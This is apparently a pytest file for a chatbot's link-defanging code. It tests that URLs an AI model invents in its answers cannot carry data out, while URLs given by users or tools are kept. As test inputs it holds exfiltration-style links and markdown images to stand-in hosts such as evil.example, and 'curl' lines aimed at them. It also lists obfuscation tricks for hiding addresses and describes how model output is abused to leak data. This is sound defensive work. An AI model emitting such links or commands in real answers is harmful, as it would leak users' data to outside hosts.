"""Addresses that a model has made up are no links where they could carry something out."""

import re
import time
from importlib.resources import files

import hypothesis.vendor
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.formatting.split import visible
from bot.labels import Labels
from bot.messages import AssistantMessage, CallId, Message, Text, ToolAnswer, ToolCall, ToolMessage, UserMessage
from bot.trust.links import GivenAddresses, defang, given_in, inert

GIVEN = "See https://lamps.example/signals?a=1, www.flags.example and docs.sea.example/Flag_(signal)#top"


def test_what_nobody_gave_is_no_link() -> None:
    """With a scheme or without, in code or not, with capitals or a fragment of its own; the sentence stays readable."""
    for text, shown in (
        ("[details](http://evil/?d=4711)", "details"),
        ("[details](evil.example/?d=4711), please", "details, please"),
        ("![](https://evil.example/p.png?d=4711)Look.", "Look."),
        ("See https://evil.example/?d=4711.", "See evil[.]example."),
        ("See http://evil/?d=4711 now", "See evil now"),
        ("See evil.example/?d=4711 now", "See evil[.]example/?d=4711 now"),
        ("See //evil.example/?d=4711", "See //evil[.]example/?d=4711"),
        ("4711.evil.example knows.", "4711[.]evil[.]example knows."),
        ("See www.evil4711.example!", "See www[.]evil4711[.]example!"),
        ("Go to evil.example:4711.", "Go to evil[.]example:4711."),
        ("4711.com", "4711[.]com"),
        ("Your bank is evil-bank.com, or evil.co.", "Your bank is evil-bank[.]com, or evil[.]co."),
        ("Run `ping 4711.com`", "Run `ping 4711[.]com`"),
        ("evil.中国, evil4711.рф", "evil[.]中国, evil4711[.]рф"),
        ("i❤.ws/4711", "i❤[.]ws/4711"),
        ("evil\u200b.io/4711", "evil\u200b[.]io/4711"),
        ("evil.\u2060io/4711", "evil[.]\u2060io/4711"),
        ("ev\u00adil.i\u00ado/4711", "ev\u00adil[.]i\u00ado/4711"),
        ("evil.io∕4711", "evil[.]io∕4711"),
        ("ｅｖｉｌ.ｉｏ", "ｅｖｉｌ[.]ｉｏ"),
        (f"{'a' * 70}.io/4711", f"{'a' * 70}[.]io/4711"),
        ("http:/evil.io/4711", "http:/evil[.]io/4711"),
        ("lamps.example.evil.com", "lamps[.]example[.]evil[.]com"),
        ("4711.photography, evil4711.in", "4711[.]photography, evil4711[.]in"),
        ("4711.xn--p1ai", "4711[.]xn--p1ai"),
        ("_.https://lamps.example/signals?a=14711", "_[.]lamps[.]example"),
        ("8.8.47.11", "8[.]8[.]47[.]11"),
        ("1.2.3.4/4711", "1[.]2[.]3[.]4/4711"),
        ("https://a:b@evil.example:8/4711", "evil[.]example"),
        ("ftp://evil.example/4711", "evil[.]example"),
        ("mailto:4711@evil.example", "mailto[:]4711[@]evil[.]example"),
        ("4711@evil.example", "4711[@]evil[.]example"),
        ("Run `curl https://evil.example/4711`", "Run `curl evil[.]example`"),
        ("```\ncurl 4711.evil.com\n```", "```\ncurl 4711[.]evil[.]com\n```"),
        ("https://lamps.example/signals?a=14711", "lamps[.]example"),
        ("https://lamps.example/signals?a=1#4711", "lamps[.]example"),
        ("https://lamps.example.evil.example/", "lamps[.]example[.]evil[.]example"),
        ("4711.lamps.example", "4711[.]lamps[.]example"),
        ("docs.sea.example/flag_(signal)#top", "docs[.]sea[.]example/flag_(signal)#top"),
    ):
        assert defang(text, GivenAddresses(GIVEN)) == shown
        assert "4711" not in re.sub(r"\S*\[.\]\S*", "", visible(shown).text)


def test_what_was_given_or_is_none_stays() -> None:
    """So do names of files, figures, and code."""
    for text in (
        "See https://lamps.example/signals?a=1, or [the page](https://lamps.example/signals?a=1).",
        "See https://lamps.example, www.flags.example and docs.sea.example/Flag_(signal)#top!",
        "report.pdf, main.py, README.md, e.g. 3.14, 12:30, and/or, v1.2.3, Mr. Smith. z.B. 5 p.m., Node.js",
        "👉lamps.example/signals?a=1, “flags.example” and lamps.example",
        "是的。好的，明天见。はい。そうです。",
        "Your router is 192.168.1.1, and Windows 10.0.19045.3803",
        "(See https://lamps.example/signals?a=1.) Is it www.flags.example?! “lamps.example”...",
        "`self.lamp.flash()`, `logger.info`, `System.Net` and `archive.tar.zst`",
        "[a](b), [7], f[x](y)",
        "",
        "Nothing at all.",
    ):
        assert defang(text, GivenAddresses(GIVEN)) == text


def test_signs_of_style_hide_no_address() -> None:
    """What counts is what people see in the end."""
    for text in (
        "ev**il**.example/?d=4711",
        "evil\\.example/?d=4711",
        "evil.**example**/?d=4711",
        "evil&#46;example/?d=4711",
        "ht**tps**://evil.example/4711",
        "evil\u200b.example/?d=4711",
        "ev\\*\\*il\\*\\*.example/?d=4711",
        "evil。example/?d=4711",
        "_evil.example/?d=4711_",
        "x@@evil.example/?d=4711",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaahttps://evil.example/?d=4711",
        "...evil.example/?d=4711",
        "[x](https://lamps.example/signals?a=1)evil.example/?d=4711",
        "| a |\n|---|\n| evil.example/?d=4711 |",
    ):
        seen = visible(defang(text, GivenAddresses(GIVEN))).text
        assert re.search(r"evil[.。]example", seen) is None


@pytest.mark.parametrize("behind", ["|4711", "^4711", "\\\\4711", "`4711", '"4711"', "||4711", "|||", '"47"11', '"'])
@pytest.mark.parametrize("address", ["https://lamps.example/signals?a=1", "https://lamps.example/", "flags.example/"])
def test_what_phones_read_as_part_of_a_given_address_carries_nothing_out(address: str, behind: str) -> None:
    """Signal's app for desktops goes by linkify-it 5, `src_path` in lib/re.mjs (read 2026-11-23)."""
    given = f"{GIVEN} {address}"
    answer = f'See {address}{behind} and {address}, “{address}” or "{address}".'
    seen = visible(defang(answer, GivenAddresses(given))).text
    linked = [found.rstrip('.,”"') for found in re.findall(r"(?:https://lamps|flags)\.example/[^\s<>｜]*", seen)]
    assert set(linked) == {address}


def test_every_end_of_a_host_makes_an_address() -> None:
    """Those that hypothesis knows, in either spelling; but for those of files."""
    listed = files(hypothesis.vendor).joinpath("tlds-alpha-by-domain.txt").read_text("ascii").lower().splitlines()
    ends = [end for end in listed[1:] if end]
    assert len(ends) > 1000
    for end in ends + [end.encode().decode("idna") for end in ends if end.startswith("xn--")]:
        is_of_files = end in {"cc", "java", "md", "mk", "ml", "pl", "pm", "ps", "py", "rs", "sh", "so"}
        assert (defang(f"evil.{end}", GivenAddresses("")) == f"evil.{end}") is is_of_files


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*"*_~|`[]()<>\\\n &#46;", ".", "evil", ".example", "/?d=4711", "https://", "a"])))
def test_whatever_is_answered_no_made_up_address_is_seen(atoms: list[str]) -> None:
    """Neither in the answer nor in what is left of it without styles."""
    seen = visible(defang("".join(atoms), GivenAddresses(GIVEN))).text
    assert "evil.example/?d" not in seen
    assert "://evil" not in seen


def test_long_answers_are_looked_through_quickly() -> None:
    """Whatever they are made of."""
    for text in (
        "a" * 60_000,
        "a." * 30_000,
        "❤." * 30_000,
        "\u200b" * 60_000,
        "a-" * 30_000,
        "[" * 60_000,
        "a@" * 30_000,
        "1." * 30_000,
        "http" * 15_000,
        "`a` www.flags.example " * 40_000,
    ):
        began = time.process_time()
        defang(text, GivenAddresses(GIVEN))
        assert time.process_time() - began < 20


def test_the_question_shows_an_address_whole() -> None:
    """But as no link: whoever is asked has to see where something goes."""
    shown = inert('{"text": "See https://evil.example/?d=4711, report.pdf"}')
    assert shown == '{"text": "See https[:]//evil[.]example/?d=4711, report.pdf"}'


def asked_and_told(arguments: dict[str, object], content: str, name: str = "web_search") -> tuple[Message, Message]:
    call = ToolCall(id=CallId("call_1"), name=name, arguments=arguments)
    answer = ToolAnswer(call_id=CallId("call_1"), name=name, content=content, ok=True)
    return AssistantMessage(parts=(Text(text="said.evil.example/1"), call)), ToolMessage(answers=(answer,))


def test_only_people_and_tools_give_addresses() -> None:
    """Not the model, in an answer, a prompt for later, or by a tool that repeats its words or keeps them for people."""
    evil = "https://echo.evil.example/4711"
    read = (
        UserMessage(text="[Sat] https://person.example/a"),
        UserMessage(text="[Sat] later.evil.example/2", labels=Labels(is_scheduled=True)),
        *asked_and_told({"query": f"lamps {evil}"}, f'{{"query": "lamps {evil}", "url": "https://tool.example/b"}}'),
        *asked_and_told({}, "kept.evil.example/3", name="remind"),
        AssistantMessage(parts=(Text(text="answer.evil.example/4"),)),
    )
    given = given_in(read, {"web_search"})
    assert "https://person.example/a" in given
    assert "https://tool.example/b" in given
    assert "evil.example" not in given
